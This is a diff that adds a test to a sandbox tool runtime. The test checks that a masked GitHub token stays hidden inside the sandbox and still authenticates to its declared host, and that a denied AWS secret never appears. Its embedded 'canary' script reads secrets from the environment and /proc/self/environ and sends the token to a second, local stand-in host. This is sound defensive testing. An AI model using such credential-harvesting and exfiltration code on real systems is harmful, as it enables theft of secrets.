@@ -456,3 +456,76 @@ def test_the_call_result_and_the_audit_say_what_was_refused(
     records, _ = read_records(path)
     assert records[-1]["tool"] == "fetcher"
     assert records[-1]["network_refused"] == [f"git.test:{refused.port}: not in the allow list (narrowed list)"]
+
+
+CANARY = r"""
+import os, ssl, sys, urllib.request
+token = os.environ["GITHUB_TOKEN"]
+context = ssl.create_default_context()  # SSL_CERT_FILE: toolrt's bundle, with the proxy's authority
+context.load_verify_locations(sys.argv[3])  # and the test's own, which signed the uninterrupted server
+print("placeholder", token)
+print("other", os.environ.get("AWS_SECRET_ACCESS_KEY"))
+print("environ", open("/proc/self/environ", "rb").read().count(token.encode()))
+api, echo = sys.argv[1], sys.argv[2]
+def fetch(url, headers, body=None):
+    request = urllib.request.Request(url, headers=headers, data=body)
+    return urllib.request.urlopen(request, timeout=20, context=context).read().decode()
+print("declared", fetch(f"{api}/echo", {"Authorization": f"Bearer {token}"}))
+print("reflected", fetch(f"{api}/reflect", {"Authorization": f"Bearer {token}"}))
+print("elsewhere", fetch(f"{api}/echo?t={token}", {"X-Other": token}, token.encode()))
+print("other host", fetch(f"{echo}/echo", {"Authorization": f"Bearer {token}"}))
+"""
+
+
+@pytest.mark.parametrize("launch", LAUNCHES)
+def test_a_masked_secret_is_never_readable_inside_and_still_works_toward_its_host(
+    tmp_path: Path, resolved: list[str], authority: Authority, monkeypatch: pytest.MonkeyPatch, launch: str
+) -> None:
+    from net_origins import Reflecting
+
+    from toolrt.sandbox.credentials import Credential
+
+    secret = "ghp_canary" + os.urandom(12).hex()
+    monkeypatch.setenv("GITHUB_TOKEN", secret)
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-canary-" + os.urandom(8).hex())
+    api = Reflecting(tmp_path, tls=authority)
+    echo = Reflecting(tmp_path, tls=authority)
+    credentials = (
+        Credential("GITHUB_TOKEN", "mask", "tls.test", "Authorization"),
+        Credential("AWS_SECRET_ACCESS_KEY", "deny"),
+    )
+    proxy.trust_upstream(str(authority.ca))
+    try:
+        rules = NetworkRules(((f"tls.test:{api.port}", f"other.test:{echo.port}"),))
+        support = replace(SUPPORT, launch=launch)  # type: ignore[arg-type]
+        policy = SandboxPolicy(network=False, network_rules=rules, credentials=credentials)
+        root = _project(tmp_path)
+        plan = plan_sandbox(policy, support, root=root, output_dir=root / "o")
+        assert plan is not None
+        # as if env_allow passed them both
+        env = {**build_env(), "GITHUB_TOKEN": secret, "AWS_SECRET_ACCESS_KEY": "leaked"}
+        argv = [sys.executable, "-c", CANARY, f"https://tls.test:{api.port}", f"https://other.test:{echo.port}"]
+        argv.append(str(authority.ca))
+
+        async def main() -> ProcessOutcome:
+            return await run_process(argv, cwd=root, env=env, timeout=60, sandbox=plan)
+
+        result = anyio.run(main)
+    finally:
+        proxy.trust_upstream(None)
+        api.stop()
+        echo.stop()
+    assert result.exit_code == 0, result.output
+    assert secret not in result.output and "leaked" not in result.output
+    placeholder = next(line.split()[1] for line in result.output.splitlines() if line.startswith("placeholder"))
+    assert placeholder.startswith("toolrt-masked-github_token-") and secret[:6] not in placeholder
+    assert "other None" in result.output and "environ 1" in result.output
+    stars = "*" * len(secret)
+    assert f"declared host=tls.test:{api.port} auth=Bearer {stars}" in result.output  # its reply is redacted
+    assert api.seen[0]["authorization"] == f"Bearer {secret}"  # the host got the real value
+    assert api.seen[1]["authorization"] == f"Bearer {secret}"
+    assert f"reflected Bearer {stars}" in result.output
+    elsewhere = api.seen[2]
+    assert elsewhere["path"] == f"/echo?t={placeholder}" and elsewhere["x-other"] == placeholder
+    assert elsewhere["body"] == placeholder and secret not in json.dumps(api.seen[2])
+    assert echo.seen[0]["authorization"] == f"Bearer {placeholder}"  # another host gets the placeholder
